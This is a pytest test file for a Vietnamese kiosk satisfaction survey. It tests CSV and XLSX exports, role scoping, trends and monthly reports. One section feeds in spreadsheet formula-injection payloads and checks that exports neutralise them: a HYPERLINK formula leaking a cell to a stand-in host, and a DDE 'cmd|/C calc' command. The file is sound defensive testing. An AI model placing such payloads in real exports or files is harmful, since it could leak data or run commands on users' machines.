"""Exports (CSV with BOM, XLSX), trends and the monthly report: scoped by role, no phone numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from helpers import add_responses, log_in, post, today, wire_responses
from kiosk import store
from kiosk.forms import CONTROL
from sync import wire
from sync.central.store import schema


def test_csv_is_utf8_with_bom_and_scoped(with_complaint):
    log_in(with_complaint, "admin")
    reply = with_complaint.get(f"/export.csv?start={today()}&end={today()}")
    assert reply.status_code == 200 and reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = reply.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Ngày", "Thời gian", "Máy"]
    assert rows[0][rows[0].index("Góp ý") + 1:] == ["extra_request", "visits", "reasons", "complete", "flags"]
    assert len(rows) == 1 + 4
    assert "Cán bộ gây khó dễ" in body.decode("utf-8")
    assert b"0912345678" not in body  # phone numbers never leave the case page


def test_an_officer_exports_only_their_own_rows(with_complaint):
    log_in(with_complaint, "an")
    text = with_complaint.get(f"/export.csv?start={today()}&end={today()}").get_data().decode("utf-8-sig")
    officers = {row[5] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert officers == {"An"}
    assert with_complaint.get("/export.csv?unit=Unit B").status_code == 403


def test_xlsx_has_a_summary_sheet_and_a_raw_sheet(with_complaint):
    log_in(with_complaint, "sup-a")
    reply = with_complaint.get("/export.xlsx")
    book = load_workbook(io.BytesIO(reply.get_data()))
    assert book.sheetnames == ["Tổng hợp", "Số phiếu"]
    summary = list(book["Tổng hợp"].values)
    assert summary[0][:4] == ("Ngày", "Số phiếu", "Phiếu nghi vấn", "Chỉ số (cách tính SIPAS)")
    assert len(summary) == 1 + 30 and summary[-1][0].date().isoformat() == today()  # a date, not text
    assert summary[-1][1] == 3  # Unit A only
    assert len(list(book["Số phiếu"].values)) == 1 + 3


def test_bad_ranges_are_refused(with_complaint):
    log_in(with_complaint, "admin")
    for query in ("start=2026-01-31&end=2026-01-01", "start=2020-01-01&end=2026-01-01", "start=31/01/2026"):
        reply = with_complaint.get(f"/export.csv?{query}")
        assert reply.status_code == 400 and "cách nhau tối đa một năm" in reply.get_data(as_text=True)


def test_trends_and_monthly_report(with_complaint):
    log_in(with_complaint, "admin")
    trends = with_complaint.get("/trends?days=90").get_data(as_text=True)
    # Overall and attitude have answers on one day only: a dot each, no line (wide and phone charts).
    assert trends.count("<circle") == 4 and trends.count('class="daily"') == 0
    assert with_complaint.get("/trends?days=7").status_code == 400
    report = with_complaint.get(f"/report?month={today()[:7]}").get_data(as_text=True)
    assert "Báo cáo sự hài lòng của người dân" in report and "3. Công chức trực tiếp giải quyết công việc" in report
    assert with_complaint.get("/report?month=2026-13").status_code == 400


# --- exports are data, never code ---------------------------------------------------------------------

HOSTILE_COMMENTS = ['=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")', "=== Rất tệ ===",
                    "+84 912 gọi lại giúp tôi", "@SUM(1+1)", "-- chờ quá lâu --", "\tcmd|' /C calc'!A0",
                    "\r=1+1", "'quoted", "＝1+1", "Chuông\x07 kêu\x01 mãi\x1f", "dòng 1\ndòng 2"]


def unguard(text):
    """The text a guarded cell stands for: one leading apostrophe removed (see reports.spreadsheet_text)."""
    return text[1:] if text.startswith("'") else text


def safe_form(text, xlsx=False):
    """What an export must show for `text`: XLSX cannot hold some control characters (they become U+FFFD),
    and XML reads a CR as a line feed."""
    import re
    text = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)
    return text.replace("\r\n", "\n").replace("\r", "\n") if xlsx else text


@pytest.fixture
def hostile(site, central_engine, tmp_path):
    """A kiosk whose staff typed formula-like names and codes, and whose citizens wrote formula-like comments.

    Central now refuses control characters in a batch (sync.wire), so the comment holding them is
    written into the store directly, as a row stored before that check would be.
    """
    path = tmp_path / "k-a.db"
    with store.connect(path) as db, store.write(db):
        store.set_setting(db, "counter", "01")
        store.set_setting(db, "officer", "=cmd|'/C calc'!A0")
    for i, comment in enumerate(HOSTILE_COMMENTS):
        with store.connect(path) as db, store.write(db):
            store.set_setting(db, "pending_dossier", f"{i:06d}")
            if i == len(HOSTILE_COMMENTS) - 1:
                store.set_setting(db, "officer", "0001")  # a name Excel would read as the number 1
        add_responses(path, 1, kiosk_id="k-a", answers={"overall": 2, "extra_request": "no", "visits": "3+"},
                      comment=CONTROL.sub("", comment), reasons=["unclear_guidance", "long_wait"])
    reply = post(site, site.kiosk_secrets["k-a"], wire.batch("k-a", wire_responses(path)[2:]), kiosk="k-a")
    assert reply.get_json().get("accepted") == len(HOSTILE_COMMENTS), reply.get_json()
    with central_engine.begin() as conn:
        for comment in filter(CONTROL.search, HOSTILE_COMMENTS):
            conn.execute(schema.response_private.update()
                         .where(schema.response_private.c.comment == CONTROL.sub("", comment))
                         .values(comment=comment))
    log_in(site, "admin")
    return site


def test_csv_cells_never_start_a_formula_and_keep_their_text(hostile):
    reply = hostile.get(f"/export.csv?start={today()}&end={today()}&unit=Unit A")
    assert reply.status_code == 200
    rows = list(csv.DictReader(io.StringIO(reply.get_data().decode("utf-8-sig"))))
    ours = [row for row in rows if row["Góp ý"]]
    assert [unguard(row["Góp ý"]) for row in ours] == [safe_form(c) for c in HOSTILE_COMMENTS]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), value
    first = ours[0]
    assert first["Quầy"] == "'01" and first["Hồ sơ"] == "'000000" and ours[5]["Hồ sơ"] == "'000005"
    assert first["Công chức"] == "'=cmd|'/C calc'!A0" and ours[-1]["Công chức"] == "'0001"
    assert first["Yêu cầu thêm"] == "Không" and first["Số lần đến"] == "3 lần trở lên"
    assert first["Lý do"] == "Chờ đợi quá lâu; Hướng dẫn chưa rõ, chưa đầy đủ" and first["Hoàn tất"] == "Có"
    assert (first["extra_request"], first["visits"], first["reasons"], first["complete"]) == (
        "no", "3+", "long_wait,unclear_guidance", "1")


def test_xlsx_cells_are_strings_dates_and_numbers_never_formulas(hostile):
    from datetime import date, datetime

    reply = hostile.get(f"/export.xlsx?start={today()}&end={today()}&unit=Unit A")
    assert reply.status_code == 200
    book = load_workbook(io.BytesIO(reply.get_data()))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    raw = book["Số phiếu"]
    header = [c.value for c in raw[1]]
    lines = [dict(zip(header, line, strict=True)) for line in raw.iter_rows(min_row=2)]
    ours = [line for line in lines if line["Góp ý"].value]
    assert [line["Góp ý"].value for line in ours] == [safe_form(c, xlsx=True) for c in HOSTILE_COMMENTS]
    assert all(line["Góp ý"].quotePrefix for line in ours[:8])  # shown as text even after an edit
    first = ours[0]
    assert first["Quầy"].value == "01" and first["Quầy"].data_type == "s"
    assert first["Hồ sơ"].value == "000000" and first["Công chức"].value == "=cmd|'/C calc'!A0"
    assert first["Ngày"].value == datetime.combine(date.fromisoformat(today()), datetime.min.time())
    assert first["Ngày"].is_date and first["Thời gian"].is_date
    assert first["Tổng thể"].value == 2 and first["Số lần đến"].value == "3 lần trở lên"
    summary = book["Tổng hợp"]
    assert summary["A2"].is_date and isinstance(summary["B2"].value, int)


def test_spreadsheet_text_guards_every_formula_start_and_only_those():
    from sync.central.reports import spreadsheet_text
    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "'x", "＝1", "＋1", "－1", "＠1", " =1",
                 "\u3000@A1", "\xa0-1"):
        assert spreadsheet_text(text) == "'" + text
    for text in ("Rất tốt", "1+1", "a=b", "", "Nguyễn Văn An"):
        assert spreadsheet_text(text) == text
    assert spreadsheet_text(None) == ""
    assert spreadsheet_text("a\x00b\x0bc\x1fd\ufffe") == "a\ufffdb\ufffdc\ufffdd\ufffd"
    assert spreadsheet_text("a\tb\nc") == "a\tb\nc"  # allowed inside a cell
    for code in ("01", "000123", "1.5", "01/02", "2026-01-31"):
        assert spreadsheet_text(code, code=True) == "'" + code
    assert spreadsheet_text("HS-01", code=True) == "HS-01" and spreadsheet_text("01") == "01"
    for hidden in ("\ufeff=1+1", "\u200b@SUM(1)", "\u00a0+84", " \ufeff -1"):  # invisible marks before a formula
        assert spreadsheet_text(hidden) == "'" + hidden


def test_english_exports_use_the_questionnaires_english(hostile):
    hostile.get("/lang/en")
    rows = list(csv.DictReader(io.StringIO(
        hostile.get(f"/export.csv?start={today()}&end={today()}&unit=Unit A").get_data().decode("utf-8-sig"))))
    row = [r for r in rows if r["Comment"]][0]
    assert row["Visits"] == "3 times or more" and row["Extra demands"] == "No" and row["Complete"] == "Yes"
    assert row["Reasons"] == "Waited too long; Guidance unclear or incomplete"
